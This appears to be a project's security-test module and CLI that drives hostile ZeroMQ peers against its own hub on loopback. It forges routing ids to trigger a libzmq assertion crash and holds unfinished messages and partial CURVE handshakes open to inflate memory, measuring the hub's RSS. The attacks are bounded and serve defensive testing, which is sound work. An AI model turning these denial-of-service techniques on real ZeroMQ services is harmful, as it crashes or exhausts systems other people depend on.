"""Wire-level hostile peers against a live hub on loopback: routing-id collisions and messages
that never finish. Functions for the tests (tests/test_hostile_wire.py) and a small CLI:

    python -m scripts.hostile.hostile_wire collide --endpoint E [--start ID_HEX]
                                           [--connections C] [--late] [--seconds S]
    python -m scripts.hostile.hostile_wire unfinished --endpoint E [--frames N --frame-bytes B
                                              --connections C --seconds S] [--handshake]
                                              [--hub-pid P]
    python -m scripts.hostile.hostile_wire complete --endpoint E [--frames N --frame-bytes B]
                                            [--hub-pid P]

``collide`` claims the routing ids a ROUTER would assign next (libzmq 4.3.5 counts them up from
a start that is the same in every process unless the process seeds ``rand()``): a DEALER sets
``ZMQ_ROUTING_ID`` (``--late``: a raw ZMTP client that sends its READY, and so its identity,
only after the hub's READY), then a newcomer connects; on a vulnerable hub libzmq asserts and
the hub dies. ``unfinished`` is a raw ZMTP 3.0 client (NULL mechanism) that, without ever
saying HELLO, sends ``--frames`` frames of ``--frame-bytes`` flagged MORE, then keeps the
message open with one empty MORE frame a second (``--handshake``: instead, all but the last
byte of one ``--frame-bytes`` CURVE handshake command, what an unauthenticated peer can do to a
CURVE hub). ``complete`` sends the same frames and a last one, then waits for the reply or the
disconnect. With ``--hub-pid`` each prints the hub's RSS before, at the end of (or, for
``complete``, at its peak during) the attack and a second after. Loopback only; every attack is
bounded in connections, bytes and seconds.
"""

from __future__ import annotations

import argparse
import socket
import struct
import time
from collections.abc import Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, contextmanager, suppress
from pathlib import Path

import zmq

from starsd import protocol

MAX_CONNECTIONS = 64  # per attack, whatever the command line says
MAX_BYTES = 8 << 30  # sent per attack
SIGNATURE = b"\xff" + b"\x00" * 8 + b"\x7f"
GREETING_BYTES = 64
_MORE, _LONG, _COMMAND = 0x01, 0x02, 0x04


# ---------------------------------------------------------------------------------- ZMTP 3.0


def greeting(mechanism: bytes = b"NULL") -> bytes:
    """A ZMTP 3.0 greeting: signature, version 3.0, mechanism (padded to 20), as-server 0."""
    return SIGNATURE + bytes((3, 0)) + mechanism.ljust(20, b"\x00") + b"\x00" + b"\x00" * 31


def frame(payload: bytes, more: bool = False, command: bool = False) -> bytes:
    """One ZMTP frame: flags, a 1- or 8-byte size, the payload."""
    flags = (_MORE if more else 0) | (_COMMAND if command else 0)
    if len(payload) < 256:
        return bytes((flags, len(payload))) + payload
    return bytes((flags | _LONG,)) + struct.pack(">Q", len(payload)) + payload


def frame_header(size: int, more: bool) -> bytes:
    """The flags and 8-byte size of a long frame of ``size`` bytes (payload sent separately)."""
    return bytes((_LONG | (_MORE if more else 0),)) + struct.pack(">Q", size)


def ready(identity: bytes | None = None, socket_type: bytes = b"DEALER") -> bytes:
    """A READY command; ``identity`` adds the Identity property (the routing id it claims)."""
    body = b"\x05READY" + _property(b"Socket-Type", socket_type)
    if identity is not None:
        body += _property(b"Identity", identity)
    return frame(body, command=True)


def _property(name: bytes, value: bytes) -> bytes:
    return bytes((len(name),)) + name + struct.pack(">I", len(value)) + value


def read_exact(sock: socket.socket, n: int) -> bytes:
    data = bytearray()
    while len(data) < n:
        chunk = sock.recv(n - len(data))
        if not chunk:
            raise ConnectionError("the hub closed the connection")
        data += chunk
    return bytes(data)


def read_frame(sock: socket.socket) -> tuple[int, bytes]:
    """The next frame from the hub: (flags, payload)."""
    flags = read_exact(sock, 1)[0]
    size = struct.unpack(">Q", read_exact(sock, 8))[0] if flags & _LONG else read_exact(sock, 1)[0]
    return flags, read_exact(sock, size)


def is_open(sock: socket.socket) -> bool:
    """False once the other side closed ``sock`` (never blocks; looks at pending bytes only)."""
    try:
        sock.settimeout(0)
        return bool(sock.recv(1, socket.MSG_PEEK))
    except BlockingIOError:
        return True
    except OSError:
        return False


def parse_endpoint(endpoint: str) -> tuple[str, int]:
    """``tcp://host:port`` -> (host, port); loopback only."""
    host, _, port = endpoint.removeprefix("tcp://").rpartition(":")
    host = host.strip("[]")
    if host not in ("127.0.0.1", "localhost", "::1"):
        raise ValueError(f"{endpoint}: these attacks run against loopback only")
    return host, int(port)


class RawPeer:
    """A raw ZMTP 3.0 client with the NULL mechanism (plain-text hubs).

    ``late``: send READY (with ``identity``) only after the hub's READY arrived, i.e. after the
    hub's ZAP handler answered; else at once, as libzmq does.
    """

    def __init__(
        self,
        endpoint: str,
        identity: bytes | None = None,
        late: bool = False,
        timeout_s: float = 10.0,
    ) -> None:
        self.sock = socket.create_connection(parse_endpoint(endpoint), timeout=timeout_s)
        self.sock.sendall(greeting())
        hub = read_exact(self.sock, GREETING_BYTES)
        if hub[:1] != b"\xff" or hub[10] != 3:
            raise ConnectionError(f"not a ZMTP 3 greeting: {hub[:12].hex()}")
        if not late:
            self.sock.sendall(ready(identity))
        flags, body = read_frame(self.sock)
        if not flags & _COMMAND or not body.startswith(b"\x05READY"):
            raise ConnectionError(f"handshake refused: {body[:40]!r}")
        if late:
            self.sock.sendall(ready(identity))

    def send(self, frames: Sequence[bytes]) -> None:
        """One whole message."""
        last = len(frames) - 1
        self.sock.sendall(b"".join(frame(f, more=i < last) for i, f in enumerate(frames)))

    def send_message(self, msg: protocol.Message) -> None:
        self.send([bytes(f) for f in protocol.encode(msg)])

    def recv_message(self, timeout_s: float = 10.0) -> protocol.Message:
        self.sock.settimeout(timeout_s)
        frames = []
        while True:
            flags, body = read_frame(self.sock)
            if flags & _COMMAND:  # heartbeats
                continue
            frames.append(body)
            if not flags & _MORE:
                return protocol.decode(frames)

    def alive(self) -> bool:
        """False once the hub closed the connection (never blocks)."""
        return is_open(self.sock)

    def close(self) -> None:
        self.sock.close()


# ---------------------------------------------------------------------------------- attacks


def auto_id(n: int) -> bytes:
    """The routing id libzmq's ROUTER assigns from counter value ``n``: 0x00 + 4 bytes BE."""
    return b"\x00" + struct.pack(">I", n & 0xFFFFFFFF)


NATURAL_START = 0x6B8B4567  # glibc rand() unseeded: the first automatic id of a fresh process


def claims_from(start: int, count: int) -> list[bytes]:
    return [auto_id(start + i) for i in range(count)]


@contextmanager
def claimants(
    endpoint: str, claims: Sequence[bytes], late: bool = False, settle_s: float = 0.3
) -> Iterator[list]:
    """Connections that claim ``claims`` as their routing ids, open while the block runs.

    Each sends one PING so the claimed id reaches the hub's ROUTER for sure.
    """
    if len(claims) > MAX_CONNECTIONS:
        raise ValueError(f"at most {MAX_CONNECTIONS} claims")
    with ExitStack() as stack:
        peers: list = []
        if late:
            for claim in claims:
                peer = RawPeer(endpoint, claim, late=True)
                stack.callback(peer.close)
                peer.send_message(protocol.Ping(1))
                peers.append(peer)
        else:
            ctx = zmq.Context()
            stack.callback(ctx.term)
            for claim in claims:
                sock = ctx.socket(zmq.DEALER)
                stack.callback(sock.close, 0)
                sock.setsockopt(zmq.LINGER, 0)
                sock.setsockopt(zmq.ROUTING_ID, claim)
                sock.connect(endpoint)
                sock.send_multipart(protocol.encode(protocol.Ping(1)))
                peers.append(sock)
        time.sleep(settle_s)
        yield peers


def newcomer_answered(endpoint: str, timeout_s: float = 3.0) -> bool:
    """Whether a DEALER that lets the hub pick its routing id gets a PONG (the collision kills
    the hub at this newcomer's connection)."""
    ctx = zmq.Context()
    sock = ctx.socket(zmq.DEALER)
    sock.setsockopt(zmq.LINGER, 0)
    try:
        sock.connect(endpoint)
        sock.send_multipart(protocol.encode(protocol.Ping(7)))
        return bool(sock.poll(int(1000 * timeout_s)))
    finally:
        sock.close(0)
        ctx.term()


def unfinished(
    endpoint: str,
    frames: int,
    frame_bytes: int,
    connections: int = 1,
    seconds: float = 5.0,
    on_sent: object = None,
) -> list[RawPeer]:
    """Open ``connections`` raw peers that each send ``frames`` frames of ``frame_bytes``
    flagged MORE (never HELLO), then trickle one empty MORE frame a second for ``seconds``.
    Returns the peers, still open (close them to release what the hub holds)."""
    connections = min(connections, MAX_CONNECTIONS)
    if connections * frames * frame_bytes > MAX_BYTES:
        raise ValueError("more than MAX_BYTES in one attack")
    chunk = b"\x00" * min(frame_bytes, 1 << 20)
    peers = [RawPeer(endpoint) for _ in range(connections)]
    for peer in peers:
        for _ in range(frames):
            if not _send_long(peer, frame_bytes, chunk, more=True):
                break
    if callable(on_sent):
        on_sent()
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for peer in peers:
            with suppress(OSError):
                peer.sock.sendall(frame(b"", more=True))
        time.sleep(min(1.0, max(0.0, deadline - time.monotonic())))
    return peers


def unfinished_handshake(
    endpoint: str, command_bytes: int, connections: int = 1, mechanism: bytes = b"CURVE"
) -> list[socket.socket]:
    """Open ``connections`` raw connections that greet with ``mechanism`` and then send all
    but the last byte of one ``command_bytes`` handshake command: what an unauthenticated peer
    can make a CURVE hub hold. Returns the sockets, still open."""
    connections = min(connections, MAX_CONNECTIONS)
    if connections * command_bytes > MAX_BYTES:
        raise ValueError("more than MAX_BYTES in one attack")
    chunk = b"\x00" * min(command_bytes, 1 << 20)
    socks = []
    for _ in range(connections):
        sock = socket.create_connection(parse_endpoint(endpoint), timeout=30)
        socks.append(sock)
        try:
            sock.sendall(greeting(mechanism))
            read_exact(sock, GREETING_BYTES)
            sock.sendall(bytes((_COMMAND | _LONG,)) + struct.pack(">Q", command_bytes))
            left = command_bytes - 1
            while left:
                n = min(left, len(chunk))
                sock.sendall(chunk[:n])
                left -= n
        except OSError:  # dropped: the command is over the hub's limit, or the hub is full
            pass
    return socks


def _send_long(peer: RawPeer, size: int, chunk: bytes, more: bool) -> bool:
    try:
        peer.sock.settimeout(30)
        peer.sock.sendall(frame_header(size, more))
        left = size
        while left:
            n = min(left, len(chunk))
            peer.sock.sendall(chunk[:n])
            left -= n
        return True
    except OSError:  # the hub dropped us (frame over its limit): that is the point
        return False


def complete(endpoint: str, frames: int, frame_bytes: int, timeout_s: float = 10.0) -> str:
    """Send one message of ``frames`` frames (a PING header, then ``frames - 1`` frames of
    ``frame_bytes``); returns the hub's answer: an error code, or "disconnected"."""
    peer = RawPeer(endpoint)
    try:
        header = bytes(protocol.encode(protocol.Ping(1))[0])
        peer.sock.sendall(frame(header, more=True))
        chunk = b"\x00" * min(frame_bytes, 1 << 20)
        for i in range(frames - 1):
            if not _send_long(peer, frame_bytes, chunk, more=i < frames - 2):
                return "disconnected"
        try:
            reply = peer.recv_message(timeout_s)
        except (OSError, ConnectionError):
            return "disconnected"
        return reply.code if isinstance(reply, protocol.Error) else type(reply).__name__
    finally:
        peer.close()


# ---------------------------------------------------------------------------------- measuring


def rss_mb(pid: int) -> float:
    """Resident set size of process ``pid`` in MB (from /proc)."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    raise RuntimeError(f"no VmRSS for {pid}")


def _main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
    p.add_argument("attack", choices=["collide", "unfinished", "complete"])
    p.add_argument("--endpoint", required=True)
    p.add_argument("--hub-pid", type=int)
    p.add_argument("--frames", type=int, default=30)
    p.add_argument("--frame-bytes", type=int, default=16 << 20)
    p.add_argument("--connections", type=int, default=1)
    p.add_argument("--seconds", type=float, default=5.0)
    p.add_argument("--start", help="collide: first counter value (hex); default the natural one")
    p.add_argument("--late", action="store_true", help="collide: raw peers, READY after the hub's")
    p.add_argument(
        "--handshake",
        action="store_true",
        help="unfinished: a CURVE handshake command of --frame-bytes instead",
    )
    args = p.parse_args(argv)
    pid = args.hub_pid
    before = rss_mb(pid) if pid else None
    peak = before
    if args.attack == "collide":
        start = int(args.start, 16) if args.start else NATURAL_START
        claims = claims_from(start, min(args.connections, MAX_CONNECTIONS))
        with claimants(args.endpoint, claims, late=args.late):
            print(
                f"holding {len(claims)} claimed ids {claims[0].hex()}..{claims[-1].hex()} "
                f"for {args.seconds} s"
            )
            answered = newcomer_answered(args.endpoint)
            print(f"a newcomer (no routing id of its own) was {'' if answered else 'NOT '}answered")
            time.sleep(args.seconds)
    elif args.attack == "unfinished" and args.handshake:
        socks = unfinished_handshake(args.endpoint, args.frame_bytes, args.connections)
        time.sleep(0.5)
        peak = rss_mb(pid) if pid else None
        time.sleep(max(0.0, args.seconds - 0.5))
        for sock in socks:
            sock.close()
        print(f"{len(socks)} connections x one unfinished {args.frame_bytes} B handshake command")
    elif args.attack == "unfinished":
        peers = unfinished(
            args.endpoint, args.frames, args.frame_bytes, args.connections, args.seconds
        )
        peak = rss_mb(pid) if pid else None
        alive = sum(peer.alive() for peer in peers)
        for peer in peers:
            peer.close()
        print(
            f"{len(peers)} connections x {args.frames} x {args.frame_bytes} B MORE; "
            f"{alive} still open at the end"
        )
    else:
        with ThreadPoolExecutor(1) as pool:
            answer = pool.submit(complete, args.endpoint, args.frames, args.frame_bytes)
            while pid and not answer.done():
                peak = max(peak or 0.0, rss_mb(pid))
                time.sleep(0.02)
            print(f"{args.frames} x {args.frame_bytes} B message: {answer.result()}")
    if pid:
        time.sleep(1.0)
        if not Path(f"/proc/{pid}").exists():
            print(f"the hub (pid {pid}) is gone")
            return 1
        after = rss_mb(pid)
        print(
            f"hub RSS: {before:.0f} MB before, {peak:.0f} MB at the end of the attack, "
            f"{after:.0f} MB 1 s after it (+{(peak or 0) - (before or 0):.0f} MB)"
        )
    return 0


if __name__ == "__main__":
    raise SystemExit(_main())
